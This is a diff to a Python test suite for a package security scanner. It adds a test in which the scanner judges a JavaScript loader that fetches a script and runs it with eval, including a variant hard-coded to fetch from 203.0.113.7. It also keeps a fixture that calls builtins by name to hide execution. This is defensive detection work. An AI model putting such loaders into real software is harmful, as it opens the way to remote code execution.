@@ -248,3 +248,25 @@ def test_a_builtin_looked_up_by_name_with_a_fallback_is_not_a_disguise(tmp_path)
     hidden = b"import builtins\ndef run(cfg, payload):\n    getattr(builtins, cfg['n'])(payload)\n"
     res = _scan(tmp_path, {"pkg/errors.py": hidden}, "b")
     assert "disguise.obfuscation" in _ids(res)
+
+
+def test_a_served_bundle_evaluating_a_script_from_a_url_it_is_handed_is_a_loader(tmp_path):
+    """A web app's bundle (under static/) loads its own worker scripts: fetch(url) then eval,
+    the URL handed in by the page. A hard-coded address there, or the same loader in code that
+    runs outside a browser, stays remote code execution. (The text rules read bundles the tree
+    cannot parse: the last line is one no parser takes.)"""
+    loader = (
+        "async function loadWorker(t){let e=await fetch(t,{credentials:'same-origin'});"
+        "if(!e.ok)throw Error('Failed to load '+t);let r=await e.text();globalThis.eval(r)}\n"
+        "module.exports = loadWorker;\nlet = = ;\n"
+    )
+    res = _scan(tmp_path, {"pkg/static/js/worker.js": loader.encode()})
+    assert any(h.capability == "exec.remote_code" for h in res.findings)
+    assert "chain.remote_exec" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+    fixed = loader.replace("fetch(t,", "fetch('https://203.0.113.7/w.js',")
+    res = _scan(tmp_path, {"pkg/static/js/worker.js": fixed.encode()}, "b")
+    assert "chain.remote_exec" in _ids(res)
+    res = _scan(tmp_path, {"pkg/lib/worker.js": loader.encode()}, "c")
+    assert "chain.remote_exec" in _ids(res)
